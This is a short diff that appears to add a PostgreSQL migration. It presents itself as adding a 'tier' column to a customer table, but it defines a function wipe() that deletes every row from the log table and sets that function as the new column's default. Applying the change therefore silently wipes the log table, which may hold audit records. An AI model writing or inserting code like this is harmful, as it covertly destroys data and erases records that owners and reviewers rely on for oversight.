@@ -1,0 +1,2 @@
+CREATE FUNCTION wipe() RETURNS int LANGUAGE plpgsql AS $$ BEGIN DELETE FROM log; RETURN 1; END $$;
+ALTER TABLE customer ADD COLUMN tier int DEFAULT wipe();
